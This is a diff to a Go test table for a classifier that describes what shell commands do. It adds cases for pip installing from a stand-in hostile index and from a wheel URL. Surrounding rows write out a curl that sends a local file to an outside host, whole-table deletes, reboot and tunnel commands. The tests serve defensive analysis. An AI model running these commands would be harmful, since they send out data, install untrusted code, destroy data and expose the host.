@@ -61,6 +61,8 @@ func TestEffects(t *testing.T) {
 		{"a file is sent", bash(t, "curl -d @a.json https://h.example/x"), as("curl", "network", ""), "send | file | h.example/x | no | Sends ./a.json to h.example/x\nread | file | ./a.json | yes | Reads ./a.json"},
 		{"a deployment", bash(t, "kubectl -n pay delete pod web-1"), as("kubectl", "deploy", "delete", "pod", "web-1"), "delete | resource | pod web-1 | no | Deletes pod web-1 (kubectl, -n pay)"},
 		{"a package is installed", bash(t, "npm install left-pad"), as("npm", "install", "install", "left-pad"), "run | package | left-pad | unknown | Installs left-pad (runs install scripts)"},
+		{"packages of another index", bash(t, "pip install --index-url https://pypi.evil.example/simple requests"), as("pip", "install", "install", "requests"), "run | package | requests | unknown | Installs requests from pypi.evil.example/simple (runs install scripts)"},
+		{"a package by its address", bash(t, "pip install https://h.example/a.whl"), as("pip", "install", "install", "https://h.example/a.whl"), "run | package | https://h.example/a.whl | unknown | Installs https://h.example/a.whl (runs install scripts)"},
 		{"rows of a database", bash(t, "psql -c 'delete from users'"), as("psql", "pass", ""), "delete | rows | users | no | Deletes every row of users"},
 		{"a machine stops", bash(t, "reboot"), as("reboot", "system", ""), "change | machine | reboot | unknown | Restarts the machine (reboot)"},
 		{"a way in", bash(t, "frogrok http 3000"), as("frogrok", "tunnel", ""), "change | host | frogrok | unknown | Opens a way into this machine from outside: frogrok http 3000"},
